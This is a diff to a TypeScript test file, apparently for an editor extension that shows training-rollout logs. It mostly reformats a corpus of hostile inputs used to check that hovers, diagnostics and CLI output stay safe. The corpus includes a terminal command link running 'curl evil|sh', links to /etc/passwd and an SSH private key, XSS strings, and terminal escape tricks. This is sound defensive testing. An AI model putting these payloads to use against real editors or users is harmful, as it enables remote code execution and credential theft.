@@ -23,28 +23,71 @@ const md = (require('markdown-it') as (options: object) => Renderer)({ html: tru
 
 export const CORPUS: string[] = [
   '[click](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
-  '[x](command:rolloutLens.applyFix)', '<command:workbench.action.reloadWindow>', '[ref]\n\n[ref]: command:foo',
-  '[local](file:///etc/passwd)', 'file:///etc/passwd', '<file:///root/.ssh/id_rsa>', '![img](https://evil.example/p.png)',
-  '<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '<iframe src="javascript:alert(1)">', '<a href="command:x">a</a>',
-  '[js](javascript:alert(1))', '[d](data:text/html;base64,PHNjcmlwdD4=)', 'https://evil.example/steal?t=1', 'www.evil.example',
-  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;img src=x&#62;', '```\n**not code**\n```', '~~~\nfence\n~~~', '`` ` ``',
-  '# Heading\n---\n| a | b |\n|---|---|', '*emphasis* __strong__ ~~strike~~', '<!-- hidden -->visible', '\\[escaped\\](command:x)',
-  '\u001b[31mRED\u001b[0m', '\u001b[2J\u001b[Hscreen cleared', '\u001b]0;window title\u0007', '\u001b]8;;file:///etc/passwd\u0007click\u001b]8;;\u0007',
-  'safe\b\b\b\bevil', 'ok\rFAKE', '\u009b31mC1 CSI', 'bidi \u202eevil.exe\u202c', 'zero\u200bwidth\u2060joiner', 'NUL\u0000byte', 'line\u2028separator',
-  '\nrun/x.jsonl:1:1: error invalid-json: injected finding', 'x'.repeat(5000),
+  '[x](command:rolloutLens.applyFix)',
+  '<command:workbench.action.reloadWindow>',
+  '[ref]\n\n[ref]: command:foo',
+  '[local](file:///etc/passwd)',
+  'file:///etc/passwd',
+  '<file:///root/.ssh/id_rsa>',
+  '![img](https://evil.example/p.png)',
+  '<img src=x onerror=alert(1)>',
+  '<script>alert(1)</script>',
+  '<iframe src="javascript:alert(1)">',
+  '<a href="command:x">a</a>',
+  '[js](javascript:alert(1))',
+  '[d](data:text/html;base64,PHNjcmlwdD4=)',
+  'https://evil.example/steal?t=1',
+  'www.evil.example',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;img src=x&#62;',
+  '```\n**not code**\n```',
+  '~~~\nfence\n~~~',
+  '`` ` ``',
+  '# Heading\n---\n| a | b |\n|---|---|',
+  '*emphasis* __strong__ ~~strike~~',
+  '<!-- hidden -->visible',
+  '\\[escaped\\](command:x)',
+  '\u001b[31mRED\u001b[0m',
+  '\u001b[2J\u001b[Hscreen cleared',
+  '\u001b]0;window title\u0007',
+  '\u001b]8;;file:///etc/passwd\u0007click\u001b]8;;\u0007',
+  'safe\b\b\b\bevil',
+  'ok\rFAKE',
+  '\u009b31mC1 CSI',
+  'bidi \u202eevil.exe\u202c',
+  'zero\u200bwidth\u2060joiner',
+  'NUL\u0000byte',
+  'line\u2028separator',
+  '\nrun/x.jsonl:1:1: error invalid-json: injected finding',
+  'x'.repeat(5000),
 ];
 
 /** A miles eval-trials line and a miles rollout sample carrying `p` in every shown field. */
 function trial(p: string, k: number, aborted: boolean): string {
   return JSON.stringify({
-    instance_id: `inst ${p}`, trial_idx: k, status_code: aborted ? -1 : 0, elapsed_sec: 1.5, reward: aborted ? null : k % 2,
-    exit_status: aborted ? p : 'Submitted', error: aborted ? `Traceback: ${p}` : null, dataset: `ds ${p}`, agent_metrics: {}, eval_report: {},
+    instance_id: `inst ${p}`,
+    trial_idx: k,
+    status_code: aborted ? -1 : 0,
+    elapsed_sec: 1.5,
+    reward: aborted ? null : k % 2,
+    exit_status: aborted ? p : 'Submitted',
+    error: aborted ? `Traceback: ${p}` : null,
+    dataset: `ds ${p}`,
+    agent_metrics: {},
+    eval_report: {},
   });
 }
 function sample(p: string, g: number, k: number, aborted: boolean): string {
   return JSON.stringify({
-    group_index: g, index: g * 2 + k, prompt: p, response: aborted ? '' : p, response_length: aborted ? 0 : 3, tokens: [1],
-    status: aborted ? 'aborted' : 'completed', reward: aborted ? null : 1.0, metadata: { exit_status: p, error: p, message: p },
+    group_index: g,
+    index: g * 2 + k,
+    prompt: p,
+    response: aborted ? '' : p,
+    response_length: aborted ? 0 : 3,
+    tokens: [1],
+    status: aborted ? 'aborted' : 'completed',
+    reward: aborted ? null : 1.0,
+    metadata: { exit_status: p, error: p, message: p },
   });
 }
 
@@ -76,7 +119,10 @@ test(`hovers (${CORPUS.length} payloads × instance id, cause, error text, datas
   const h = await startHarness({ workspaceFolders: [dir] });
   try {
     let hovers = 0;
-    for (const [name, body] of [['trials.jsonl', text.trials], ['rollout_1.jsonl', text.rollout]] as const) {
+    for (const [name, body] of [
+      ['trials.jsonl', text.trials],
+      ['rollout_1.jsonl', text.rollout],
+    ] as const) {
       const uri = pathToFileURL(join(dir, 'run', name)).href;
       h.open(uri, body);
       await h.diagnostics(uri, (d) => d.length > 0);
@@ -103,7 +149,10 @@ test(`diagnostics (${CORPUS.length} payloads in causes, dataset names, group key
   const h = await startHarness({ workspaceFolders: [dir] });
   try {
     let checked = 0;
-    for (const [name, body] of [['trials.jsonl', text.trials], ['rollout_1.jsonl', text.rollout]] as const) {
+    for (const [name, body] of [
+      ['trials.jsonl', text.trials],
+      ['rollout_1.jsonl', text.rollout],
+    ] as const) {
       const uri = pathToFileURL(join(dir, 'run', name)).href;
       h.open(uri, body);
       const diags = await h.diagnostics(uri, (d) => d.length > 0);
@@ -141,6 +190,10 @@ test(`CLI (${CORPUS.length} payloads in every field, and in a file name): text o
   assert.ok(json.doc.findings.every((f) => codes.has(f.code)));
   const messages = json.doc.findings.map((f) => f.message).join('\n');
   const datasets = new Set(json.doc.findings.map((f) => f.dataset));
-  for (const p of CORPUS.slice(0, 30)) assert.ok(messages.includes(p) || datasets.has(`ds ${p}`), `log text kept exactly in the JSON: ${JSON.stringify(p.slice(0, 40))}`);
-  assert.ok(json.doc.files.some((f) => f.path === `run/${evilName}`), 'the hostile file name is reported as it is (JSON escapes it)');
+  for (const p of CORPUS.slice(0, 30))
+    assert.ok(messages.includes(p) || datasets.has(`ds ${p}`), `log text kept exactly in the JSON: ${JSON.stringify(p.slice(0, 40))}`);
+  assert.ok(
+    json.doc.files.some((f) => f.path === `run/${evilName}`),
+    'the hostile file name is reported as it is (JSON escapes it)',
+  );
 });
